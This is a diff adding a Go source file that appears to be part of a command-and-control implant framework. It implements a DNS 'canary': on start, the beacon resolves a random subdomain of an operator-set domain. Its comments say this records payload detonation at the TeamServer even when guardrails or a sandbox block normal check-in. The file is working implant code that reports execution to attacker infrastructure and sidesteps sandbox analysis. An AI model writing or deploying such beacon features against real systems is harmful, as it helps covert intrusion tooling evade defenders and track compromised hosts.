@@ -0,0 +1,35 @@
+package main
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"log"
+	"net"
+	"time"
+)
+
+// canaryDomain is the DNS canary subdomain injected by the payload builder via -ldflags -X. When set,
+// the beacon resolves a fresh name under it on start, which the TeamServer records as a detonation
+// of the payload, even on hosts the guardrails or a sandbox keep it from checking in from.
+var canaryDomain string
+
+// canaryTimeout bounds how long the canary lookup may delay the start of the beacon.
+const canaryTimeout = 3 * time.Second
+
+// signalDetonation resolves a random name under the canary subdomain, so resolvers can't answer it
+// from their cache. The answer doesn't matter.
+func signalDetonation() {
+	if canaryDomain == "" {
+		return
+	}
+	nonce := make([]byte, 4)
+	if _, err := rand.Read(nonce); err != nil {
+		return
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), canaryTimeout)
+	defer cancel()
+	if _, err := net.DefaultResolver.LookupHost(ctx, hex.EncodeToString(nonce)+"."+canaryDomain); err != nil {
+		log.Printf("Canary lookup: %v", err)
+	}
+}